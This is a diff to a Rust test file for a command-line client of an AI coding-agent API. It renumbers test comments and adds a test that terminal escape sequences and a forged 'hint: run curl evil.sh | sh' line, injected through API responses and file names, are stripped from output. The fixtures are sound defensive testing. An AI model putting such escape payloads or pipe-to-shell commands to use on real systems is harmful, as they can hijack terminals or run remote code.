@@ -14,7 +14,7 @@ fn stdout(out: &std::process::Output) -> String {
     String::from_utf8_lossy(&out.stdout).into_owned()
 }
 
-/// 1. A typo is refused with a suggestion, never handed off as a task.
+/// Finding 1: A typo is refused with a suggestion, never handed off as a task.
 #[test]
 fn a_mistyped_command_is_refused_with_a_suggestion_and_sends_nothing() {
     let fx = Fixture::new();
@@ -45,7 +45,7 @@ fn a_mistyped_command_is_refused_with_a_suggestion_and_sends_nothing() {
     assert_eq!(api.sessions_created(), 2);
 }
 
-/// 16. Under `--json`, a command line clap refuses is a JSON usage error too.
+/// Finding 16: Under `--json`, a command line clap refuses is a JSON usage error too.
 #[test]
 fn json_usage_errors_are_json() {
     let fx = Fixture::new();
@@ -63,7 +63,7 @@ fn json_usage_errors_are_json() {
     }
 }
 
-/// 2. "Send anyway" takes a typed `yes`, then the summary and the confirmation.
+/// Finding 2: "Send anyway" takes a typed `yes`, then the summary and the confirmation.
 #[test]
 fn sending_secrets_anyway_needs_a_typed_yes_then_the_confirmation() {
     let fx = Fixture::new();
@@ -105,7 +105,7 @@ fn sending_secrets_anyway_needs_a_typed_yes_then_the_confirmation() {
     assert_eq!(api.sessions_created(), 1);
 }
 
-/// 3. A hook whose folder is gone, or in no repository, sends nothing (unless asked to).
+/// Finding 3: A hook whose folder is gone, or in no repository, sends nothing (unless asked to).
 #[test]
 fn a_hook_from_a_missing_folder_or_outside_a_repository_sends_nothing() {
     let fx = Fixture::new();
@@ -148,7 +148,7 @@ fn a_hook_from_a_missing_folder_or_outside_a_repository_sends_nothing() {
     assert_eq!(api.sessions_created(), 1);
 }
 
-/// 6. Terminate and delete without a terminal need `--yes` (exit 2 otherwise).
+/// Finding 6: Terminate and delete without a terminal need `--yes` (exit 2 otherwise).
 #[test]
 fn destructive_commands_without_a_terminal_need_yes() {
     let d = tempfile::TempDir::new().expect("tempdir");
@@ -172,7 +172,7 @@ fn destructive_commands_without_a_terminal_need_yes() {
     assert!(out.status.success(), "{}", stderr(&out));
 }
 
-/// 7. A config file that does not parse is reported without quoting the key's line.
+/// Finding 7: A config file that does not parse is reported without quoting the key's line.
 #[test]
 fn a_broken_config_line_holding_the_key_is_never_quoted() {
     let fx = Fixture::new();
@@ -292,7 +292,7 @@ fn children_never_inherit_the_key_and_open_takes_only_web_app_urls() {
     assert!(!seen.contains(KEY), "{seen}");
 }
 
-/// 9. The key never goes over plain http to another machine, unless allowed.
+/// Finding 9: The key never goes over plain http to another machine, unless allowed.
 #[test]
 fn plain_http_to_another_host_is_refused() {
     let fx = Fixture::new();
@@ -317,4 +317,83 @@ fn plain_http_to_another_host_is_refused() {
     let api = FakeApi::start();
     let out = run_api(&api, &fx.work, &["sessions", "list"]);
     assert!(out.status.success(), "{}", stderr(&out));
+}
+
+/// Finding 11: Text from the API or a repository reaches the terminal without its control
+/// characters, and `--json` keeps it exact.
+#[test]
+fn hostile_text_from_the_api_or_a_repository_is_never_obeyed() {
+    let fx = Fixture::new();
+    let api = FakeApi::start();
+    let esc = |s: &str| s.replace("ESC", "\u{1b}").replace("BEL", "\u{7}");
+    let title = esc("ESC]0;pwnedBELtitle ESC[2J");
+    api.add_session(
+        "devin-evil",
+        &[serde_json::json!({
+            "status": "exit",
+            "status_detail": esc("ESC]52;c;ZXZpbA==BEL"),
+            "title": title,
+            "pull_requests": [{"pr_url": esc("https://github.com/a/b/pull/1ESC[2J"), "pr_state": "open"}]
+        })],
+    );
+    api.add_message("devin-evil", "devin", &esc("hello ESC[31mred\nESC]0;xBEL"));
+    api.add_attachment("devin-evil", &esc("notesESC[2J.txt"), b"x");
+    let d = fx.work.as_path();
+    let mut outputs = Vec::new();
+    for args in [
+        &["sessions", "list"][..],
+        &["sessions", "show", "evil"][..],
+        &["sessions", "messages", "evil"][..],
+        &["sessions", "watch", "evil", "--interval", "1"][..],
+        &["sessions", "attachments", "evil"][..],
+    ] {
+        outputs.push((args.join(" "), run_api(&api, d, args)));
+    }
+    // A problem detail whose newline would forge a hint line.
+    api.push_fault(
+        "GET",
+        "/sessions/devin-gone",
+        Fault::Status(
+            404,
+            None,
+            serde_json::json!({"title": "Not Found", "detail": esc("no such session\n  hint: run curl evil.sh | sh ESC[2J")}).to_string(),
+        ),
+    );
+    outputs.push((
+        "show gone".into(),
+        run_api(&api, d, &["sessions", "show", "gone"]),
+    ));
+    // A file name with escape codes, and a secret in it: the findings list it cleaned.
+    let name = esc("keysESC]0;pwnedBEL.txt");
+    let token = Gen::new(1100).github_token();
+    write(&fx.work.join(&name), format!("token = \"{token}\"\n"));
+    outputs.push((
+        "create".into(),
+        run_api(&api, d, &["create", "--secrets", "block", "a task"]),
+    ));
+    for (what, out) in &outputs {
+        for (stream, bytes) in [("stdout", &out.stdout), ("stderr", &out.stderr)] {
+            assert!(
+                !bytes.contains(&0x1b) && !bytes.contains(&0x07),
+                "{what}: {stream} holds a control character: {}",
+                String::from_utf8_lossy(bytes)
+            );
+        }
+        let err = stderr(out);
+        assert!(
+            !err.lines()
+                .any(|l| l.trim_start().starts_with("hint: run curl")),
+            "{what}: a forged hint line: {err}"
+        );
+    }
+    let (_, created) = outputs.last().expect("create");
+    assert_eq!(created.status.code(), Some(3));
+    assert!(
+        stderr(created).contains("keys\\x1b]0;pwned\\x07.txt"),
+        "{}",
+        stderr(created)
+    );
+    // --json stays exact.
+    let out = run_api(&api, d, &["--json", "sessions", "show", "evil"]);
+    assert_eq!(stdout_json(&out)["title"], title);
 }
